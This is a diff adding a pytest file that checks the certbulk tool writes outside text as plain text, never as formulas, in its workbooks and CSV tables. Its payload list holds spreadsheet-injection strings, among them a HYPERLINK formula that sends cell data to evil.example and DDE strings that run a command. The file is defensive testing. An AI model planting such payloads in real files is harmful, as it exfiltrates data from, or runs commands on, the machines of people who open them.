@@ -1,0 +1,118 @@
+"""No text that comes from outside becomes a formula in a workbook or table that certbulk writes."""
+
+import csv
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+import certbulk as cb
+from certbulk.core.cleaning import harmless_cell, original_cell
+from certbulk.core.directory import Directory, Entry, Listing
+from certbulk.making.undo_workbook import undo_workbook
+from certbulk.moving import bindings
+from tests.planning.sheets import change, new
+
+BEGIN = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A1",
+    "+1+cmd|' /C calc'!A1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def cells_of(path: Path) -> Iterator[Any]:
+    book = load_workbook(path)
+    for page in book.worksheets:
+        for row in page.iter_rows():
+            yield from (cell for cell in row if cell.value is not None)
+
+
+def assert_texts(path: Path, wanted: str) -> None:
+    """Fail if a cell is a formula, or the text is nowhere in the workbook."""
+    cells = [*cells_of(path)]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    bare = wanted.strip()
+    assert [cell for cell in cells if isinstance(cell.value, str) and bare in cell.value]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_every_workbook(client: cb.Client, tmp_path: Path, formula: str) -> None:
+    """Results, plans, copies, repairs, exports, undos: titles, notes, headers and messages."""
+    rows = [
+        new(title=f"{formula} 10", online_sale_description=formula, Remarks=formula),
+        new(title="B 10", balance=formula, salon_ids=formula),
+        change(288901, title=formula),
+    ]
+    frame = pd.DataFrame(rows).fillna("").rename(columns={"Remarks": formula})
+    report = cb.validate(cb.read(frame))
+    plan = cb.plan(report, client)
+    run = cb.apply(plan, client, progress=False)
+    made = [
+        report.annotate(tmp_path / "annotated.xlsx"),
+        report.fix().to_excel(tmp_path / "fixed.xlsx"),
+        plan.to_excel(tmp_path / "plan.xlsx"),
+        run.to_excel(tmp_path / "results.xlsx"),
+        cb.export(client, tmp_path / "live.xlsx"),
+        undo_workbook(cb.undo(run.id, client), tmp_path / "undo.xlsx"),
+    ]
+    for path in made[:-1]:
+        assert_texts(path, formula)
+    assert not [cell for cell in cells_of(made[-1]) if cell.data_type == "f"]
+    written = tmp_path / "types.csv"
+    frame.to_csv(written, index=False)
+    assert_texts(cb.validate(cb.read(written)).annotate(tmp_path / "csv.xlsx"), formula)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_template(tmp_path: Path, formula: str) -> None:
+    """Names of locations and services that the service lists stand in it as texts."""
+    lists = {
+        name: Listing((Entry(1, formula, formula), Entry(2, "Other")), complete=True)
+        for name in ("locations", "services", "categories")
+    }
+    path = cb.template(tmp_path / "template.xlsx", directory=Directory(lists, live=True))
+    assert_texts(path, formula)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_table_of_bindings(tmp_path: Path, formula: str) -> None:
+    """The one .csv that is written: no cell begins like a formula, and it reads back as it was."""
+    from certbulk.cli.move import read_table, write_table
+
+    here = Directory({"locations": Listing((Entry(720441, formula, formula),), complete=True)})
+    there = Directory({"locations": Listing((Entry(5, "'=odd"),), complete=True)})
+    report = cb.validate(cb.read(pd.DataFrame([new()])), directory=here)
+    bound = bindings(report, here, there)
+    assert len(bound.frame) == 1
+    path = write_table(bound.frame, tmp_path / "table.csv")
+    with path.open(newline="", encoding="utf-8") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(BEGIN)]
+    back = read_table(path)
+    assert back["name"].tolist() == bound.frame["name"].tolist() == [formula]
+    assert bound.chosen_in(back).frame.equals(bound.frame)
+
+
+@given(st.text())
+def test_any_cell_reads_back(text: str) -> None:
+    """Whatever it is: made harmless and read again, it is the same text."""
+    written = harmless_cell(text)
+    assert not written.startswith(BEGIN)
+    assert original_cell(written) == text
+
+
+@given(st.from_regex(r"'{0,4}[=+\-@\t\r'].{0,3}", fullmatch=True))
+def test_cells_that_have_apostrophes_already(text: str) -> None:
+    """Also those that begin with the mark themselves, once or several times."""
+    assert original_cell(harmless_cell(text)) == text
